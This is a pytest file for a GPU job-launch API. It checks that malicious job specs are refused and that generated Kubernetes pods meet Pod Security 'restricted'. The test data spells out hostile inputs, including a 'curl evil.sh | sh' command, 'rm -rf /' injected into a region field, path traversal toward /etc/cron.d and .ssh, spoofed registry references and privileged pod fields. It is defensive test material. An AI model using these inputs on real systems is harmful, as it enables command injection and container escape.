"""Issue 15, fault test 7: malicious job specs are refused by the API (`POST /api/v1/jobs`,
a 4xx whose JSON body names the field at fault, and no job recorded), and every spec the
API accepts yields pods that meet Pod Security "restricted", checked by
`tests.faults.pss.restricted_violations` (the rules as the Kubernetes documentation lists
them, not our generator's constants).

The launch API has no pod-spec fields: privileged, hostPath, root, host network or PID,
capabilities and the like can only be sent as fields it doesn't know. DRF's serializer
ignores unknown fields; for each such smuggling attempt the test accepts either a
refusal naming the field or a launch whose generated pods carry none of it (and still
meet "restricted"). Image references with registry and `@` tricks are refused where
images are registered (`POST /api/v1/images`); a launch names images by catalog slug only.
"""

from __future__ import annotations

import copy
import time
from decimal import Decimal

import pytest

from jobs.backends.kubernetes import manifests
from jobs.models import Job
from jobs.services import tenant_secret_set
from marketplace.demo import seed_catalog
from marketplace.services import registry_credential_set
from tests.conftest import token_client
from tests.faults.kube_helpers import report
from tests.faults.pss import pod_templates, restricted_violations

pytestmark = pytest.mark.faults

CPU = {
    "name": "probe",
    "image": "python-3.11",
    "command": ["python", "-c", "pass"],
    "cpus": 1,
    "region": "us-west",
}
GPU = {
    **CPU,
    "image": "pytorch-2-5-cuda12-4",
    "gpu_type": "h100-80gb",
    "gpus_per_node": 1,
    "cpus": 8,
}
DIGEST = "sha256:" + "0" * 64
OWNER, MEMBER = "owner", "member"

# (what, body, the field the refusal must name, who sends it)
MALICIOUS: list[tuple[str, dict, str, str]] = [
    ("a huge GPU count per node", {**GPU, "gpus_per_node": 64}, "gpus_per_node", OWNER),
    (
        "more GPUs per node than the API takes",
        {**GPU, "gpus_per_node": 10_000},
        "gpus_per_node",
        OWNER,
    ),
    ("a huge node count", {**GPU, "gpus_per_node": 8, "nodes": 1000}, "nodes", OWNER),
    ("zero nodes", {**CPU, "nodes": 0}, "nodes", OWNER),
    ("a negative node count", {**CPU, "nodes": -3}, "nodes", OWNER),
    ("a negative GPU count", {**GPU, "gpus_per_node": -1}, "gpus_per_node", OWNER),
    ("a GPU type with no GPU", {**GPU, "gpus_per_node": 0}, "gpus_per_node", OWNER),
    ("a negative CPU count", {**CPU, "cpus": -4}, "cpus", OWNER),
    ("more CPUs than a pool has", {**CPU, "cpus": 1024}, "cpus", OWNER),
    ("a spot ratio above 1", {**GPU, "spot_ratio": "1.5"}, "spot_ratio", OWNER),
    ("a negative spot ratio", {**GPU, "spot_ratio": "-0.5"}, "spot_ratio", OWNER),
    ("a spot ratio of NaN", {**GPU, "spot_ratio": "NaN"}, "spot_ratio", OWNER),
    (
        "spot where no spot pool is",
        {**GPU, "gpu_type": "h200-141gb", "spot_ratio": "1"},
        "spot_ratio",
        OWNER,
    ),
    (
        "an image from a registry not allowed",
        {**CPU, "image": "evil.example.com/miner:1"},
        "image",
        OWNER,
    ),
    (
        "a raw image reference",
        {**CPU, "image": "docker.io/library/python:3.11-slim"},
        "image",
        OWNER,
    ),
    ("a slug with a digest trick", {**CPU, "image": f"python-3.11@{DIGEST}"}, "image", OWNER),
    ("a path in the image slug", {**CPU, "image": "../python-3.11"}, "image", OWNER),
    (
        "'..' in the checkpoint path",
        {**CPU, "checkpoint_path": "/ckpt/../../etc/cron.d"},
        "checkpoint_path",
        OWNER,
    ),
    (
        "a relative '..' checkpoint path",
        {**CPU, "checkpoint_path": "../../home/gpugeek/.ssh"},
        "checkpoint_path",
        OWNER,
    ),
    (
        "NUL in the checkpoint path",
        {**CPU, "checkpoint_path": "/ckpt/\x00x"},
        "checkpoint_path",
        OWNER,
    ),
    (
        "a newline in the checkpoint path",
        {**CPU, "checkpoint_path": "/ckpt\nGPUGEEK_RESUMED=1"},
        "checkpoint_path",
        OWNER,
    ),
    (
        "a checkpoint path too long",
        {**CPU, "checkpoint_path": "/c/" + "a" * 500},
        "checkpoint_path",
        OWNER,
    ),
    ("a very long name", {**CPU, "name": "x" * 101}, "name", OWNER),
    ("a 100 kB name", {**CPU, "name": "x" * 100_000}, "name", OWNER),
    ("a blank name", {**CPU, "name": "   "}, "name", OWNER),
    ("NUL in the name", {**CPU, "name": "a\x00b"}, "name", OWNER),
    ("an env name with '='", {**CPU, "env": {"A=B": "1"}}, "env", OWNER),
    ("an env name with NUL", {**CPU, "env": {"A\x00B": "1"}}, "env", OWNER),
    ("an env name starting with a digit", {**CPU, "env": {"1A": "x"}}, "env", OWNER),
    ("an env name with a newline", {**CPU, "env": {"A\nB": "x"}}, "env", OWNER),
    ("overriding GPUGEEK_RESUMED", {**CPU, "env": {"GPUGEEK_RESUMED": "1"}}, "env", OWNER),
    ("129 variables", {**CPU, "env": {f"V{n}": "x" for n in range(129)}}, "env", OWNER),
    ("a 33 KiB value", {**CPU, "env": {"BIG": "x" * 33 * 1024}}, "env", OWNER),
    (
        "a valueFrom smuggled as a value",
        {**CPU, "env": {"TOKEN": {"valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}}},
        "env",
        OWNER,
    ),
    (
        "a platform name in secret_env",
        {**CPU, "secret_env": {"GPUGEEK_JOB_ID": "1"}},
        "secret_env",
        OWNER,
    ),
    (
        "a variable both plain and secret",
        {**CPU, "env": {"K": "1"}, "secret_env": {"K": "2"}},
        "secret_env",
        OWNER,
    ),
    ("a command as a shell string", {**CPU, "command": "curl evil.sh | sh"}, "command", OWNER),
    ("an empty command", {**CPU, "command": []}, "command", OWNER),
    ("NUL in an argument", {**CPU, "command": ["python", "a\x00b"]}, "command", OWNER),
    ("257 arguments", {**CPU, "command": ["x"] * 257}, "command", OWNER),
    ("a number as an argument", {**CPU, "command": ["sleep", 5]}, "command", OWNER),
    (
        "a hostPort smuggled into a port",
        {**CPU, "ports": [{"name": "ssh", "port": 22, "hostPort": 22}]},
        "ports",
        OWNER,
    ),
    ("the rendezvous port", {**CPU, "ports": [{"name": "x", "port": 29500}]}, "ports", OWNER),
    ("a port out of range", {**CPU, "ports": [{"name": "x", "port": 70000}]}, "ports", OWNER),
    ("a label key with a space", {**CPU, "labels": {"a b": "c"}}, "labels", OWNER),
    ("a label value of 64 characters", {**CPU, "labels": {"a": "b" * 64}}, "labels", OWNER),
    ("an unknown priority", {**CPU, "priority": "system-node-critical"}, "priority", OWNER),
    ("a member asking for critical", {**CPU, "priority": "critical"}, "priority", MEMBER),
    ("an unknown region", {**CPU, "region": "us-west; rm -rf /"}, "region", OWNER),
    ("an unknown GPU type", {**GPU, "gpu_type": "h100-80gb'--"}, "gpu_type", OWNER),
    ("a max runtime of 0", {**CPU, "max_runtime_minutes": 0}, "max_runtime_minutes", OWNER),
    (
        "a max runtime of centuries",
        {**CPU, "max_runtime_minutes": 10**9},
        "max_runtime_minutes",
        OWNER,
    ),
    ("an organisation secret that doesn't exist", {**CPU, "secrets": ["NOPE"]}, "secrets", OWNER),
]

# Image references registered through the images API: (what, reference).
MALICIOUS_IMAGES = [
    ("a registry not allowed", "evil.example.com/miner:1"),
    ("an allowed host as a prefix of another", "ghcr.io.evil.example.com/acme/miner:1"),
    ("an allowed host with another port", "ghcr.io:8443/acme/miner:1"),
    ("'@' between host and path", "ghcr.io@evil.example.com/miner:1"),
    ("credentials in the reference", "user:pass@ghcr.io/acme/miner:1"),
    ("a short digest", "ghcr.io/acme/miner:1@sha256:abc"),
    ("no tag (an implicit latest)", "ghcr.io/acme/miner"),
    ("'..' in the path", "ghcr.io/acme/../miner:1"),
    ("a newline", "ghcr.io/acme/miner:1\nevil.example.com/x:1"),
]

# Pod-spec fields the launch API doesn't have, sent anyway.
SMUGGLED: list[tuple[str, dict]] = [
    ("privileged", {"privileged": True}),
    (
        "a securityContext",
        {
            "securityContext": {
                "privileged": True,
                "runAsUser": 0,
                "allowPrivilegeEscalation": True,
                "capabilities": {"add": ["SYS_ADMIN"]},
            }
        },
    ),
    ("host namespaces", {"hostNetwork": True, "hostPID": True, "hostIPC": True}),
    (
        "a hostPath volume",
        {
            "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            "volumeMounts": [{"name": "root", "mountPath": "/host"}],
        },
    ),
    ("the root user", {"runAsUser": 0, "runAsNonRoot": False, "runAsGroup": 0}),
    ("added capabilities", {"capabilities": {"add": ["NET_ADMIN", "SYS_PTRACE"]}}),
    (
        "a whole pod spec",
        {
            "spec": {"template": {"spec": {"hostNetwork": True}}},
            "podSpec": {"hostPID": True},
            "pod_spec": {"hostIPC": True},
        },
    ),
    (
        "an unconfined AppArmor/seccomp annotation",
        {
            "annotations": {
                "container.apparmor.security.beta.kubernetes.io/main": "unconfined",
                "seccomp.security.alpha.kubernetes.io/pod": "unconfined",
            }
        },
    ),
    (
        "placement and identity",
        {
            "nodeName": "control-plane-0",
            "tolerations": [{"operator": "Exists"}],
            "serviceAccountName": "cluster-admin",
            "automountServiceAccountToken": True,
        },
    ),
    ("a pod-security label", {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}),
]

# Specs the API accepts, one of each kind the product launches.
ACCEPTED: list[tuple[str, dict]] = [
    ("CPU", CPU),
    ("1 GPU", GPU),
    ("8 GPUs", {**GPU, "gpus_per_node": 8}),
    ("4 nodes × 8 GPUs", {**GPU, "gpus_per_node": 8, "nodes": 4}),
    ("spot", {**GPU, "nodes": 2, "spot_ratio": "1"}),
    (
        "spot and on-demand",
        {**GPU, "nodes": 3, "spot_ratio": "0.67", "checkpoint_path": "/ckpt/run"},
    ),
    ("with secret variables", {**CPU, "secret_env": {"HF_TOKEN": "hf_secret"}}),
    ("with an organisation secret", {**GPU, "secrets": ["WANDB_API_KEY"]}),
    (
        "with ports",
        {**CPU, "ports": [{"name": "jupyter", "port": 8888}, {"name": "ssh", "port": 22}]},
    ),
    (
        "with env, labels, project",
        {
            **GPU,
            "env": {"NCCL_DEBUG": "INFO"},
            "labels": {"team": "nlp"},
            "project": "llm",
            "priority": "low",
        },
    ),
    ("critical", {**CPU, "priority": "critical", "max_runtime_minutes": 60}),
    (
        "AMD MI300X",
        {
            **GPU,
            "image": "pytorch-rocm-6-2",
            "gpu_type": "mi300x",
            "region": "us-east",
            "gpus_per_node": 8,
        },
    ),
    (
        "Huawei Ascend 910B",
        {
            **GPU,
            "image": "mindspore-ascend-2-3",
            "gpu_type": "ascend-910b",
            "region": "eu-central",
            "gpus_per_node": 8,
        },
    ),
    ("NVIDIA L4", {**GPU, "gpu_type": "l4", "region": "us-east", "gpus_per_node": 4}),
    ("a private image", {**GPU, "image": "private-trainer"}),
]


@pytest.fixture
def launchable(world, settings):
    """The demo catalog on the Kubernetes backend, a private image from an allowed
    registry with the tenant's login, and an organisation secret."""
    settings.COMPUTE_BACKENDS = ["kubernetes"]
    seed_catalog()
    admin = token_client(world.admin, world.tenant)
    image = {
        "slug": "private-trainer",
        "name": "Trainer",
        "reference": "ghcr.io/acme/trainer:1.0",
        "kind": "framework",
        "compatible_with": ["nvidia"],
    }
    assert admin.post("/api/v1/images", image, format="json").status_code == 201
    registry_credential_set(
        tenant=world.tenant, user=world.admin, registry="ghcr.io", username="robot", password="t"
    )
    tenant_secret_set(tenant=world.tenant, user=world.owner, name="WANDB_API_KEY", value="w")
    return world


def pods_of(job: Job) -> list[tuple[str, dict]]:
    """Every pod template the backend would create for the job: each tier's Job of the
    first attempt and of a later (resumed) one, and the JobSet that Kueue admits."""
    found = []
    pull = [manifests.registry_secret_name("ghcr.io")] if job.image.tenant_id else None
    for attempt in (1, 2):
        job.attempt = attempt
        for manifest in manifests.job_manifests(job, resumed=attempt > 1, pull_secrets=pull):
            found += [(manifest["metadata"]["name"], t) for t in pod_templates(manifest)]
    job.attempt = 1
    if len(manifests.tiers(job)) > 1:
        jobset = manifests.jobset_manifest(job, kueue_queue="gpugeek", pull_secrets=pull)
        found += [(f"JobSet {jobset['metadata']['name']}", t) for t in pod_templates(jobset)]
    return found


def test_malicious_specs_are_refused_naming_the_field(launchable, owner_api):
    started = time.monotonic()
    clients = {OWNER: owner_api, MEMBER: token_client(launchable.member, launchable.tenant)}
    problems = []
    for what, body, field, who in MALICIOUS:
        before = Job.objects.count()
        answer = clients[who].post("/api/v1/jobs", body, format="json")
        data = _json(answer)
        if not (400 <= answer.status_code < 500 and isinstance(data, dict) and field in data):
            problems.append(f"{what}: {answer.status_code} {str(data)[:300]}")
        if Job.objects.count() != before:
            problems.append(f"{what}: a job was recorded")

    admin = token_client(launchable.admin, launchable.tenant)
    for what, reference in MALICIOUS_IMAGES:
        image = {
            "slug": "x",
            "name": "X",
            "reference": reference,
            "kind": "base",
            "compatible_with": ["cpu"],
        }
        answer = admin.post("/api/v1/images", image, format="json")
        data = _json(answer)
        if not (400 <= answer.status_code < 500 and isinstance(data, dict) and "reference" in data):
            problems.append(f"image with {what}: {answer.status_code} {str(data)[:300]}")
    assert problems == [], "\n".join(problems)
    report(
        f"FAULTS malicious-specs: job_specs_refused={len(MALICIOUS)} "
        f"image_references_refused={len(MALICIOUS_IMAGES)} accepted_by_mistake=0 "
        f"seconds={time.monotonic() - started:.1f}"
    )


def test_smuggled_pod_fields_are_refused_or_leave_no_trace(launchable, owner_api):
    started = time.monotonic()
    refused = ignored = 0
    for what, extra in SMUGGLED:
        body = {**GPU, "name": f"smuggle-{ignored + refused}", **copy.deepcopy(extra)}
        answer = owner_api.post("/api/v1/jobs", body, format="json")
        data = _json(answer)
        if 400 <= answer.status_code < 500:
            assert isinstance(data, dict) and set(extra) & set(data), (what, data)
            refused += 1
            continue
        assert answer.status_code == 201, (what, answer.status_code, data)
        ignored += 1
        job = Job.objects.get(pk=data["id"])
        for name, template in pods_of(job):
            assert restricted_violations(template) == [], (what, name)
            spec = template["spec"]
            for key in ("nodeName", "serviceAccountName", "hostNetwork", "hostPID", "hostIPC"):
                assert key not in spec, (what, name, key)
            assert spec.get("automountServiceAccountToken") is not True, (what, name)
            assert not any(
                t.get("operator") == "Exists" and "key" not in t
                for t in spec.get("tolerations") or []
            ), (what, name)
            annotations = template["metadata"].get("annotations") or {}
            assert not any("apparmor" in k or "seccomp" in k for k in annotations), (what, name)
            assert "pod-security.kubernetes.io/enforce" not in template["metadata"].get(
                "labels", {}
            )
        namespace = manifests.namespace_manifest(job.tenant_id)
        assert namespace["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
    report(
        f"FAULTS smuggled-pod-fields: attempts={len(SMUGGLED)} refused={refused} "
        f"ignored_without_trace={ignored} leaked=0 seconds={time.monotonic() - started:.1f}"
    )


def test_every_accepted_spec_meets_pod_security_restricted(launchable, owner_api):
    started = time.monotonic()
    templates = 0
    vendors = set()
    for what, body in ACCEPTED:
        answer = owner_api.post("/api/v1/jobs", {**body, "name": what}, format="json")
        assert answer.status_code == 201, (what, answer.status_code, _json(answer))
        job = Job.objects.select_related("gpu_type", "image").get(pk=answer.json()["id"])
        vendors.add(job.gpu_type.vendor if job.gpu_type else "cpu")
        pods = pods_of(job)
        assert len(pods) >= 2 * len(manifests.tiers(job))
        for name, template in pods:
            assert restricted_violations(template) == [], (what, name)
            templates += 1
    assert vendors == {"cpu", "nvidia", "amd", "huawei"}
    assert Job.objects.filter(spot_nodes__gt=0, on_demand_nodes__gt=0).exists()
    assert Job.objects.filter(spot_ratio=Decimal(1), nodes=2).exists()
    report(
        f"FAULTS pss-restricted: accepted_specs={len(ACCEPTED)} pod_templates={templates} "
        f"vendors={len(vendors)} violations=0 seconds={time.monotonic() - started:.1f}"
    )


# --- the checker itself ---------------------------------------------------------------------


def compliant() -> dict:
    """A pod template that meets "restricted" with nothing to spare."""
    return {
        "metadata": {"annotations": {}},
        "spec": {
            "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [
                {
                    "name": "main",
                    "image": "busybox:1",
                    "securityContext": {
                        "allowPrivilegeEscalation": False,
                        "capabilities": {"drop": ["ALL"]},
                    },
                    "ports": [{"containerPort": 8888}],
                }
            ],
            "volumes": [{"name": "scratch", "emptyDir": {}}, {"name": "env", "secret": {}}],
        },
    }


def _container(pod: dict) -> dict:
    return pod["spec"]["containers"][0]


def _sc(pod: dict) -> dict:
    return _container(pod)["securityContext"]


# (control, how to break it, text the violation must contain)
VIOLATIONS = [
    (
        "HostProcess",
        lambda p: p["spec"]["securityContext"].update(windowsOptions={"hostProcess": True}),
        "hostProcess",
    ),
    ("hostNetwork", lambda p: p["spec"].update(hostNetwork=True), "hostNetwork"),
    ("hostPID", lambda p: p["spec"].update(hostPID=True), "hostPID"),
    ("hostIPC", lambda p: p["spec"].update(hostIPC=True), "hostIPC"),
    ("privileged", lambda p: _sc(p).update(privileged=True), "privileged"),
    (
        "capability beyond the default set",
        lambda p: _sc(p)["capabilities"].update(add=["SYS_ADMIN"]),
        "SYS_ADMIN",
    ),
    (
        "a default-set capability other than NET_BIND_SERVICE",
        lambda p: _sc(p)["capabilities"].update(add=["CHOWN"]),
        "CHOWN",
    ),
    ("capabilities not dropped", lambda p: _sc(p)["capabilities"].pop("drop"), "drop"),
    (
        "hostPath volume",
        lambda p: p["spec"]["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
        "hostPath",
    ),
    (
        "a volume type outside the list",
        lambda p: p["spec"]["volumes"].append({"name": "n", "nfs": {"server": "x", "path": "/"}}),
        "nfs",
    ),
    ("hostPort", lambda p: _container(p)["ports"][0].update(hostPort=8888), "hostPort"),
    (
        "host in a probe",
        lambda p: _container(p).update(
            livenessProbe={"httpGet": {"host": "169.254.169.254", "port": 80}}
        ),
        "host",
    ),
    (
        "host in a lifecycle hook",
        lambda p: _container(p).update(
            lifecycle={"preStop": {"tcpSocket": {"host": "10.0.0.1", "port": 22}}}
        ),
        "host",
    ),
    (
        "AppArmor unconfined (field)",
        lambda p: _sc(p).update(appArmorProfile={"type": "Unconfined"}),
        "appArmorProfile",
    ),
    (
        "AppArmor unconfined (annotation)",
        lambda p: p["metadata"]["annotations"].update(
            {"container.apparmor.security.beta.kubernetes.io/main": "unconfined"}
        ),
        "apparmor",
    ),
    (
        "SELinux type",
        lambda p: p["spec"]["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
        "seLinuxOptions.type",
    ),
    (
        "SELinux user",
        lambda p: _sc(p).update(seLinuxOptions={"user": "system_u"}),
        "seLinuxOptions.user",
    ),
    ("/proc mount", lambda p: _sc(p).update(procMount="Unmasked"), "procMount"),
    (
        "seccomp unconfined",
        lambda p: _sc(p).update(seccompProfile={"type": "Unconfined"}),
        "seccompProfile",
    ),
    (
        "seccomp unset",
        lambda p: p["spec"]["securityContext"].pop("seccompProfile"),
        "seccompProfile",
    ),
    (
        "unsafe sysctl",
        lambda p: p["spec"]["securityContext"].update(
            sysctls=[{"name": "kernel.msgmax", "value": "1"}]
        ),
        "kernel.msgmax",
    ),
    (
        "privilege escalation allowed",
        lambda p: _sc(p).update(allowPrivilegeEscalation=True),
        "allowPrivilegeEscalation",
    ),
    (
        "privilege escalation unset",
        lambda p: _sc(p).pop("allowPrivilegeEscalation"),
        "allowPrivilegeEscalation",
    ),
    (
        "runAsNonRoot unset",
        lambda p: p["spec"]["securityContext"].pop("runAsNonRoot"),
        "runAsNonRoot",
    ),
    (
        "runAsNonRoot false in a container",
        lambda p: _sc(p).update(runAsNonRoot=False),
        "runAsNonRoot",
    ),
    ("runAsUser 0", lambda p: _sc(p).update(runAsUser=0), "runAsUser"),
    (
        "an init container breaking a rule",
        lambda p: p["spec"].update(
            initContainers=[
                {"name": "init", "image": "busybox:1", "securityContext": {"privileged": True}}
            ]
        ),
        "initContainers[init]",
    ),
]


def test_the_checker_passes_a_compliant_pod_and_its_bare_spec():
    assert restricted_violations(compliant()) == []
    assert restricted_violations(compliant()["spec"]) == []
    # Allowed variants: seccomp per container, Localhost, NET_BIND_SERVICE, safe sysctls.
    pod = compliant()
    pod["spec"]["securityContext"] = {"sysctls": [{"name": "net.ipv4.ping_group_range"}]}
    _sc(pod).update(runAsNonRoot=True, runAsUser=1000, seccompProfile={"type": "Localhost"})
    _sc(pod)["capabilities"]["add"] = ["NET_BIND_SERVICE"]
    assert restricted_violations(pod) == []


@pytest.mark.parametrize(
    ("control", "breaking", "named"), VIOLATIONS, ids=[v[0] for v in VIOLATIONS]
)
def test_the_checker_catches_each_violation(control, breaking, named):
    pod = compliant()
    breaking(pod)
    found = restricted_violations(pod)
    assert found, f"{control} went unnoticed"
    assert any(named in line for line in found), found


def _json(answer):
    try:
        return answer.json()
    except ValueError:
        return answer.content[:300]
